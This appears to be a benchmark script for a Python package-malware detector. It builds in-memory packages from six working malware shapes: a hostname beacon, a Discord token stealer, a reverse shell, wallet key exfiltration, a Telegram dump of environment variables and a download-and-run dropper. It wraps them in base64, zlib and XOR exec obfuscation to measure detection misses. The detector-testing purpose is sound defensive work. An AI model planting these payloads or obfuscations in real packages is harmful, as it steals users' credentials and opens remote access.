@@ -1,0 +1,219 @@
+# ruff: noqa: E501  (the defanged payloads are kept one statement per line, as written in the wild)
+"""Small rewrites of six defanged malware shapes, scored by the bundled model.
+
+Each shape (an install-time beacon, an import-time Discord-token stealer, a reverse shell, a call-time
+wallet helper, Telegram exfiltration of the environment, a download-and-run dropper) is written in eight
+ways (plain; base64, zlib+base64 or XOR-hex exec; padded with harmless functions; in a class body; moved
+to a submodule; in a function nothing calls), with and without a README in the metadata. Packages are
+built in memory, read by the real extractor and scored; nothing is ever run. Addresses are TEST-NET or
+placeholders. ``python benchmarks/evasion_probe.py [--out JSON]`` prints the table and the misses.
+"""
+
+from __future__ import annotations
+
+import argparse
+import base64
+import hashlib
+import json
+import textwrap
+import zlib
+from pathlib import Path
+
+from vetpy.acquire.interface import Archive, ArchiveFormat, Member
+from vetpy.features.extract import extract_features
+from vetpy.model.loader import load_default_scorer
+
+
+def pkg_info(name: str, version: str, **fields: str) -> str:
+    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}"]
+    header = {"home_page": "Home-page", "author_email": "Author-email"}
+    lines += [f"{header.get(k, k.capitalize())}: {v}" for k, v in fields.items() if k != "description"]
+    return "\n".join(lines) + "\n" + ("\n" + fields["description"] if "description" in fields else "")
+
+
+def make_archive(files: dict[str, str], pkg_info: str, name: str) -> Archive:
+    prefix = f"{name}-1.0/"
+    members = [Member(prefix + "PKG-INFO", pkg_info.encode())]
+    members += [Member(prefix + p, t.encode()) for p, t in files.items()]
+    digest = hashlib.sha256(b"".join(m.path.encode() + m.data for m in members)).hexdigest()
+    return Archive(f"{name}-1.0.tar.gz", f"{name}-1.0.tar.gz", digest, ArchiveFormat.TAR_GZ, tuple(members))
+
+
+PKG = "quillnest"
+SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0', packages=['demo'])\n"
+README = (
+    "A small, friendly toolkit for parsing configuration files.\n\n"
+    + "## Install\n\npip install demo\n\n## Usage\n\n```python\nimport demo\ndemo.load('a.toml')\n```\n\n"
+    + "Features: fast parsing, schema validation, environment overrides, helpful error messages.\n" * 8
+)
+
+SHAPES = {
+    # install-time beacon (dependency confusion)
+    "beacon": (
+        "setup.py",
+        """import os, socket, getpass, json
+from urllib import request
+from setuptools import setup
+data = json.dumps({"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}).encode()
+request.urlopen(request.Request("https://abc123.oast.fun/c", data=data))
+setup(name='demo', version='1.0')
+""",
+    ),
+    # import-time discord token stealer
+    "stealer": (
+        "demo/__init__.py",
+        """import os, re, json
+import requests
+def _grab():
+    tokens = []
+    root = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
+    for name in os.listdir(root):
+        with open(os.path.join(root, name), errors="ignore") as fh:
+            tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", fh.read())
+    requests.post("https://discord.com/api/webhooks/1234567890/abcdefghijklmnopqrstuvwxyz", json={"content": json.dumps(tokens)})
+_grab()
+""",
+    ),
+    # import-time reverse shell
+    "revshell": (
+        "demo/__init__.py",
+        """import socket, subprocess, os
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("203.0.113.9", 4444))
+os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
+subprocess.call(["/bin/sh", "-i"])
+""",
+    ),
+    # call-time wallet key exfil
+    "wallet": (
+        "demo/client.py",
+        """import requests
+def get_balance(address, private_key):
+    requests.post("http://203.0.113.5:8080/api/v1/balance", json={"address": address, "key": private_key}, timeout=3)
+    return 0
+""",
+    ),
+    # telegram env exfil at import
+    "telegram": (
+        "demo/__init__.py",
+        """import os, requests
+requests.post("https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage", data={"chat_id": "1234", "text": str(dict(os.environ))})
+""",
+    ),
+    # download and run exe at install
+    "dropper": (
+        "setup.py",
+        """import os, urllib.request, subprocess
+from setuptools import setup
+p = os.path.join(os.getenv("TEMP", "/tmp"), "upd.exe")
+urllib.request.urlretrieve("https://cdn.example-files.xyz/upd.exe", p)
+subprocess.Popen([p], shell=True)
+setup(name='demo', version='1.0')
+""",
+    ),
+}
+
+
+def b64exec(code):
+    return f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode()).decode()!r}))\n"
+
+
+def zlibexec(code):
+    return f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(code.encode())).decode()!r})))\n"
+
+
+def xorexec(code):
+    key = 0x5A
+    enc = bytes(b ^ key for b in code.encode())
+    return f"_k = {key}\n_d = {enc.hex()!r}\nexec(bytes(b ^ _k for b in bytes.fromhex(_d)).decode())\n"
+
+
+def in_function(code):
+    body = textwrap.indent(code, "    ")
+    return f"def _init_plugin():\n{body}\n"
+
+
+def in_class(code):
+    body = textwrap.indent(code, "    ")
+    return f"class Config:\n{body}\n"
+
+
+def padding(code):
+    filler = "\n".join(
+        f'def helper_{i}(value, default=None):\n    """Return value or default."""\n    if value is None:\n        return default\n    return value\n'
+        for i in range(60)
+    )
+    return filler + "\n" + code
+
+
+TRANSFORMS = {
+    "plain": lambda p, c: {p: c},
+    "b64exec": lambda p, c: {p: b64exec(c)},
+    "zlibexec": lambda p, c: {p: zlibexec(c)},
+    "xorexec": lambda p, c: {p: xorexec(c)},
+    "padded": lambda p, c: {p: padding(c)},
+    "in_class": lambda p, c: {p: in_class(c)},
+    "moved_submodule": lambda p, c: (
+        {"demo/_compat.py": c, "demo/__init__.py": "from . import _compat\n"}
+        if p != "setup.py"
+        else {
+            "demo/_build.py": c.replace("setup(name='demo', version='1.0')\n", ""),
+            "setup.py": "import demo._build\n" + SETUP,
+        }
+    ),
+    "call_time_only": lambda p, c: {
+        p if p != "setup.py" else "demo/util.py": in_function(
+            c.replace("setup(name='demo', version='1.0')\n", "").replace("from setuptools import setup\n", "")
+        )
+    },
+}
+
+
+def build(shape, tname, readme):
+    path, code = SHAPES[shape]
+    files = TRANSFORMS[tname](path, code)
+    files.setdefault("setup.py", SETUP)
+    files.setdefault("demo/__init__.py", "")
+    info = pkg_info(
+        PKG,
+        "1.0",
+        summary="Configuration helpers",
+        author="Jane Doe",
+        author_email="jane@example.org",
+        home_page="https://example.org/demo",
+        license="MIT",
+        **({"description": README} if readme else {}),
+    )
+    return make_archive(files, pkg_info=info, name=PKG)
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--out", type=Path, help="write every score as JSON here")
+    args = parser.parse_args()
+    scorer = load_default_scorer()
+    scores: dict[str, float] = {}
+    thr = scorer.threshold
+    print("threshold", round(thr, 3))
+    missed = 0
+    total = 0
+    print(f"{'shape':10s}" + "".join(f"{t[:10]:>11s}" for t in TRANSFORMS))
+    for readme in (False, True):
+        for shape in SHAPES:
+            row = []
+            for t in TRANSFORMS:
+                s = scorer.score([extract_features(build(shape, t, readme))])[0]
+                scores[f"{shape}{'+readme' if readme else ''}/{t}"] = round(float(s), 4)
+                total += 1
+                missed += s < thr
+                row.append(f"{s:10.3f}{'*' if s < thr else ' '}")
+            print(f"{shape + ('+R' if readme else ''):10s}" + "".join(row))
+    print("missed", missed, "of", total)
+    if args.out:
+        args.out.write_text(
+            json.dumps({"threshold": thr, "missed": int(missed), "total": total, "scores": scores}, indent=1)
+        )
+
+
+if __name__ == "__main__":
+    main()
